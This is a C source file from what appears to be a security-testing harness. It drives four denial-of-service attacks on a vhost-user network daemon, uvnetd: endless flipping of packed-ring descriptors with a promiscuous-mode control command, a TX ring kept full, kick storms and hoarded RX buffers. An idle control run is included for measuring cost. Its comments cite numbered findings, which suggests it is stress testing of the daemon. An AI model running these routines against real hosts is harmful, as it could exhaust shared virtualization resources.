/* SPDX-License-Identifier: MIT */
/*
 * Attacks through the rings: descriptors made available again before the
 * device used them (packed-batch), a TX ring kept full (full-tx), kicks
 * without end (kick-storm), RX buffers never taken back (rx-hoard).
 */
#include <errno.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <string.h>

#include <linux/virtio_net.h>

#include "hfe.h"

#define P_AVAIL (1u << VRING_PACKED_DESC_F_AVAIL)
#define P_USED (1u << VRING_PACKED_DESC_F_USED)

/* Flags that make a packed descriptor available in wrap @w. */
static uint16_t avail_flags(unsigned w)
{
	return (uint16_t)(w ? P_AVAIL : P_USED);
}

static void store_flags(struct vring_packed_desc *d, uint16_t flags)
{
	atomic_store_explicit((_Atomic uint16_t *)&d->flags, flags, memory_order_release);
}

/* ------------------------------------------------------------ packed-batch */

struct flipper {
	struct hfe *h;
	double end;
	uint8_t *cmd, *ack;
	uint64_t flips;
};

/*
 * Every descriptor of the TX ring (one frame each) and the control ring (a
 * two-descriptor command: RX_PROMISC on, then its ack) is made available in
 * the other wrap, over and over, with a kick each time: the device finds a
 * "new" chain at every position it looks at, so its pops since the last
 * flush outrun the ring (finding 1), and the control queue's loop never
 * finds it empty.
 */
static void *flip(void *arg)
{
	struct flipper *f = arg;
	struct hfe *h = f->h;
	unsigned w = 1;

	while (hfe_running(f->end)) {
		for (unsigned i = 0; i < h->tx.num; i++) {
			struct vring_packed_desc *d = &h->tx.pdesc[i];

			d->addr = (uintptr_t)h->frame;
			d->len = HFE_FRAME_LEN;
			d->id = (uint16_t)i;
			store_flags(d, avail_flags(w));
		}
		if (h->ctrl.pdesc) {
			struct vring_packed_desc *d = h->ctrl.pdesc;

			for (unsigned i = 0; i + 1 < h->ctrl.num; i += 2) {
				d[i].addr = (uintptr_t)f->cmd;
				d[i].len = 3;
				d[i].id = (uint16_t)i;
				d[i + 1].addr = (uintptr_t)f->ack;
				d[i + 1].len = 1;
				d[i + 1].id = (uint16_t)i;
				store_flags(&d[i + 1], avail_flags(w) | VRING_DESC_F_WRITE);
				store_flags(&d[i], avail_flags(w) | VRING_DESC_F_NEXT);
			}
			hfe_kick(&h->ctrl);
		}
		hfe_kick(&h->tx);
		w ^= 1;
		f->flips++;
	}
	return NULL;
}

int attack_packed_batch(struct hfe *h, const struct hfe_opts *o, double end)
{
	uint64_t want = HFE_F(VIRTIO_F_RING_PACKED) | HFE_F(VIRTIO_F_IN_ORDER) |
			HFE_F(VIRTIO_NET_F_CTRL_VQ) | HFE_F(VIRTIO_NET_F_MQ);
	uint64_t proto = HFE_F(VHOST_USER_PROTOCOL_F_MQ) | HFE_F(VHOST_USER_PROTOCOL_F_REPLY_ACK);
	struct flipper f = { .h = h, .end = end };
	pthread_t t;
	int r = hfe_open(h, o->path, want, proto, 8u << 20, false);

	if (r)
		return r;
	if (!(h->features & HFE_F(VIRTIO_F_RING_PACKED))) {
		h->note = "packed rings not offered";
		return -ENOTSUP;
	}
	r = hfe_ring(h, &h->rx, 0, 8, true);
	if (!r)
		r = hfe_ring(h, &h->tx, 1, o->qsize ? o->qsize : 1, true);
	if (!r && (h->features & HFE_F(VIRTIO_NET_F_CTRL_VQ)))
		r = hfe_ring(h, &h->ctrl, 2 * h->pairs, 2, true);
	else
		h->note = "no control queue offered (give the port queues=2): TX only";
	if (!r)
		r = hfe_enable(h, &h->rx, true);
	if (!r)
		r = hfe_enable(h, &h->tx, true);
	if (!r && h->ctrl.pdesc)
		r = hfe_enable(h, &h->ctrl, true);
	if (r)
		return r;
	f.cmd = hfe_alloc(h, 64, 64);
	f.ack = hfe_alloc(h, 64, 64);
	f.cmd[0] = VIRTIO_NET_CTRL_RX;
	f.cmd[1] = VIRTIO_NET_CTRL_RX_PROMISC;
	f.cmd[2] = 1;
	if (pthread_create(&t, NULL, flip, &f))
		return -EAGAIN;
	while (hfe_running(end)) {
		if (!hfe_alive(h) && !h->note)
			h->note = "connection closed by uvnetd";
		hfe_sleep_ms(20);
	}
	pthread_join(t, NULL);
	h->ops = f.flips;
	return 0;
}

/* ------------------------------------------------------------------ full-tx */

/* Keep every TX descriptor available: avail->idx = used->idx + num, as soon
 * as the device takes anything (finding 5: a drain without a budget). Every
 * 250 ms a harmless request (GET_FEATURES, a sync point for QEMU) makes
 * uvnetd park its workers, which must still be possible. */
int attack_full_tx(struct hfe *h, const struct hfe_opts *o, double end)
{
	unsigned num = o->qsize ? o->qsize : 256;
	struct hring *t = &h->tx;
	int r = hfe_start(h, o->path, 0, 16u << 20, num);

	if (r)
		return r;
	for (unsigned i = 0; i < num; i++)
		t->desc[i] = (struct vring_desc){ .addr = (uintptr_t)h->frame, .len = HFE_FRAME_LEN };
	for (double sync = hfe_now(); hfe_running(end);) {
		if (hfe_now() > sync && hfe_alive(h)) {
			uint64_t f;

			if (hfe_count(h, uvn_vu_fe_get_u64(h->fe, VHOST_USER_GET_FEATURES, &f)) &&
			    !h->note)
				h->note = "GET_FEATURES got no answer";
			sync = hfe_now() + 0.25;
		}
		uint16_t used = atomic_load_explicit((_Atomic uint16_t *)&t->used->idx,
						     memory_order_acquire);
		uint16_t target = (uint16_t)(used + num);

		if (t->avail_idx == target) {
			if ((h->ops & 0xfff) == 0 && !hfe_alive(h) && !h->note)
				h->note = "connection closed by uvnetd";
			continue;
		}
		while (t->avail_idx != target) {
			t->avail->ring[t->avail_idx % num] = (uint16_t)(t->avail_idx % num);
			t->avail_idx++;
			h->ops++;
		}
		atomic_store_explicit((_Atomic uint16_t *)&t->avail->idx, t->avail_idx,
				      memory_order_release);
		hfe_kick(t);
	}
	return 0;
}

/* --------------------------------------------------------------- kick-storm */

/* Every kick fd, the control queue's too where the port has one (its
 * kicks are handled on uvnetd's control thread, not by a worker). */
int attack_kick_storm(struct hfe *h, const struct hfe_opts *o, double end)
{
	int r = hfe_start(h, o->path, HFE_F(VIRTIO_NET_F_CTRL_VQ), 8u << 20, o->qsize ? o->qsize : 256);

	if (!r && (h->features & HFE_F(VIRTIO_NET_F_CTRL_VQ))) {
		r = hfe_ring(h, &h->ctrl, 2 * h->pairs, 64, true);
		if (!r)
			r = hfe_enable(h, &h->ctrl, true);
	}
	if (r)
		return r;
	while (hfe_running(end)) {
		for (unsigned i = 0; i < 256; i++) {
			hfe_kick(&h->tx);
			hfe_kick(&h->rx);
			if (h->ctrl.num)
				hfe_kick(&h->ctrl);
		}
		h->ops += 512;
	}
	return 0;
}

/* ----------------------------------------------------------------- rx-hoard */

/* RX buffers posted once, never taken back, never a kick again: uvnetd
 * fills them with floods and then has nowhere to put our frames. */
int attack_rx_hoard(struct hfe *h, const struct hfe_opts *o, double end)
{
	static char note[64];
	unsigned num = o->qsize ? o->qsize : 256;
	int r = hfe_start(h, o->path, 0, 8u << 20, num);

	if (r)
		return r;
	h->ops = num;
	while (hfe_running(end)) {
		if (!hfe_alive(h) && !h->note)
			h->note = "connection closed by uvnetd";
		hfe_sleep_ms(50);
	}
	/* What uvnetd gave us, read once at the end. */
	snprintf(note, sizeof(note), "uvnetd filled %u of our %u buffers",
		 (uint16_t)atomic_load_explicit((_Atomic uint16_t *)&h->rx.used->idx,
						memory_order_acquire), num);
	if (!h->note)
		h->note = note;
	return 0;
}

/* --------------------------------------------------------------- idle-spin */

/* Not an attack: the control run for the spinning ones. It sets up the
 * session as full-tx does and spins the same loop on the same CPU, but
 * never posts, kicks or asks anything. What the pair loses to it is what
 * any busy process on its CPU would take, so an attack's cost to uvnetd is
 * its ratio over this one's, not over 1. */
int attack_idle_spin(struct hfe *h, const struct hfe_opts *o, double end)
{
	unsigned num = o->qsize ? o->qsize : 256;
	struct hring *t = &h->tx;
	int r = hfe_start(h, o->path, 0, 16u << 20, num);

	if (r)
		return r;
	while (hfe_running(end)) {
		uint16_t used = atomic_load_explicit((_Atomic uint16_t *)&t->used->idx,
						     memory_order_acquire);

		h->ops += used == t->avail_idx; /* always: nothing was posted */
	}
	return 0;
}
